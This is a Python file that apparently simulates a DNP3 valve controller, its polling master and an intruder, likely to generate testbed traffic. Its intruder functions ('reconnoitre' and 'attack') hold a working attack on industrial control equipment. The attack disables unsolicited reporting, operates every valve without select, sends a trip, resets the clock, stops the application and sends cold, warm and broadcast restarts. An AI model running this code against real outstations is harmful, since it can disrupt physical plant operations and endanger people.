"""A DNP3 outstation, its master and an intruder, on dnp3py; the intruder builds its own fragments."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import socket
from typing import Any

from plant import STRETCH, pause

MASTER, OUTSTATION = 1, 10


def outstation() -> None:
    """A valve controller: accepts controls on five outputs and restarts as told, measured values drift."""
    asyncio.run(_outstation())


async def _outstation() -> None:
    from dnp3.database import Database
    from dnp3.outstation import CommandResult, DefaultCommandHandler, Outstation, OutstationConfig, OutstationTcpRunner

    class Valves(DefaultCommandHandler):
        def select_binary_output(self, **_: Any) -> CommandResult:
            return CommandResult.success()

        operate_binary_output = direct_operate_binary_output = select_binary_output

        def cold_restart(self) -> int:
            return 5000

        def warm_restart(self) -> int:
            return 1000

    database = Database()
    for i in range(8):
        database.add_binary_input(i, value=bool(i % 2))
    for i in range(6):
        database.add_analog_input(i, value=400.0 + 10 * i)
    for i in range(5):
        database.add_binary_output(i, value=False)
    config = OutstationConfig(address=OUTSTATION, broadcast_enabled=True)
    runner = OutstationTcpRunner(Outstation(config, database, Valves()), port=20000)

    async def drift() -> None:
        for turn in itertools.count():
            await asyncio.sleep(4 / STRETCH)
            database.update_analog_input(turn % 6, 400.0 + 10 * (turn % 6) + turn % 5)
            if turn % 15 == 0:
                database.update_binary_input(0, bool(turn % 30))

    await asyncio.gather(runner.run(), drift())


def master(address: str, operate_at: float) -> None:
    """A master: integrity poll at the start, event classes every five seconds, one select and operate."""
    asyncio.run(_master(address, operate_at))


async def _master(address: str, operate_at: float) -> None:
    from dnp3.master import Master, MasterConfig
    from dnp3.master.tcp_runner import MasterTcpRunner

    config = MasterConfig(address=MASTER, outstation_address=OUTSTATION)
    loop = asyncio.get_running_loop()
    began = loop.time()
    while True:
        runner = MasterTcpRunner(master=Master(config), host=address, response_timeout=1.0)
        with contextlib.suppress(Exception):
            await runner.open()
            await runner.integrity_poll()
            due = loop.time()
            while True:
                await runner.class_poll()
                if operate_at and (loop.time() - began) * STRETCH >= operate_at:
                    operate_at = 0
                    for build in ("select", "operate"):
                        task = getattr(runner.master.command_builder().latch_on(1), f"build_{build}")()
                        await runner.request(getattr(runner.master, f"build_{build}")(task))
                due += 5 / STRETCH
                await asyncio.sleep(max(0.0, due - loop.time()))
        with contextlib.suppress(Exception):
            await runner.close()
        await asyncio.sleep(30 / STRETCH)  # the outstation holds one connection; it was taken


class Raw:
    """A master that sends whatever it is told; its link address is that of the real one unless told otherwise."""

    def __init__(self, address: str, source: int = MASTER) -> None:
        self.socket = socket.create_connection((address, 20000), 1)
        self.source = source
        self.sequence = 0

    def ask(self, function: int, objects: bytes = b"", *, to: int = OUTSTATION, wait: float = 0.05) -> None:
        """Send one request fragment and take in what is answered within ``wait`` seconds."""
        from dnp3.datalink.builder import build_unconfirmed_user_data

        self.sequence = (self.sequence + 1) % 16
        fragment = bytes([0xC0 | self.sequence, 0xC0 | self.sequence, function]) + objects
        self.socket.sendall(build_unconfirmed_user_data(to, self.source, True, fragment).to_bytes())
        self.socket.settimeout(wait)
        with contextlib.suppress(OSError):
            self.socket.recv(4096)

    def close(self) -> None:
        """Hang up."""
        self.socket.close()


_CLASSES = b"\x3c\x02\x06\x3c\x03\x06\x3c\x04\x06\x3c\x01\x06"


def crob(index: int, code: int) -> bytes:
    """Group 12 variation 1, one point: control code, once, 1 s on, 0 s off."""
    return bytes([12, 1, 0x17, 1, index, code, 1]) + (1000).to_bytes(4, "little") + bytes(4) + b"\x00"


def reconnoitre(address: str) -> None:
    """Integrity poll, then every function code that the standard names and some that it does not."""
    raw = Raw(address)
    raw.ask(1, _CLASSES)
    for group in (0, 1, 10, 20, 30, 40, 50, 60, 70, 80, 85, 87, 91, 101, 110, 120):
        raw.ask(1, bytes([group, 0, 6]))
        pause(0.3)
    for function in (7, 11, 16, 19, 23, 24, 25, 28, 29, 30, 31, 34, 40, 70, 112, 127):
        raw.ask(function)
        pause(0.3)
    raw.close()


def attack(address: str) -> None:
    """Silence spontaneous messages, operate every valve without select, restart the controller, shout to all."""
    raw = Raw(address)
    raw.ask(21, b"\x3c\x02\x06\x3c\x03\x06\x3c\x04\x06")
    pause(1)
    for turn in range(3):
        for index in range(5):
            raw.ask(5, crob(index, 0x03 if turn % 2 else 0x04))  # latch on, latch off
            pause(0.3)
    raw.ask(6, crob(0, 0x81))  # trip, no answer wanted
    pause(1)
    raw.ask(2, b"\x32\x01\x07\x01" + bytes(6))  # the clock to 1970
    raw.ask(18)  # stop application
    pause(1)
    raw.ask(13, wait=0.2)  # cold restart
    pause(3)
    raw.ask(14, wait=0.2)  # warm restart
    raw.ask(5, crob(1, 0x04), to=0xFFFF)
    raw.ask(13, to=0xFFFF)
    raw.close()
